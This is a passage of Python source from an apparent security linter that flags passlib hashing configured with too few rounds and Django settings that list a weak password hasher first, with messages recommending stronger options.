    rounds = _int_value(keyword_value(node, "rounds"), ctx)
    if rounds is None:
        return
    minimum = (
        _MIN_BCRYPT_ROUNDS
        if scheme.startswith("bcrypt")
        else _MIN_PBKDF2_ITERATIONS
        if scheme.startswith("pbkdf2")
        else None
    )
    if minimum is not None and rounds < minimum:
        ctx.report(
            node,
            f"{scheme}.using(rounds={rounds}) is far below the safe minimum ({minimum:,}): "
            "leaked hashes are brute-forced quickly. Keep passlib's default rounds or raise them",
        )


def _django_hashers(node: ast.Assign, ctx: PythonContext) -> None:
    if ctx.function is not None or ctx.classes:
        return
    if not any(isinstance(t, ast.Name) and t.id == "PASSWORD_HASHERS" for t in node.targets):
        return
    path = ctx.path.lower()
    if "settings" not in path and not path.endswith(("config.py", "conf.py")):
        return
    if _dev_settings_file(ctx.path):
        return
    hashers = _strings(node.value, ctx)
    if not hashers:
        return
    first = hashers[0].rsplit(".", 1)[-1]
    if first in _WEAK_DJANGO_HASHERS:
        ctx.report(
            node,
            f"PASSWORD_HASHERS starts with {first}: Django hashes every new and changed "
            "password with it, and a leaked user table is cracked in hours. Put "
            "Argon2PasswordHasher or PBKDF2PasswordHasher first",
        )
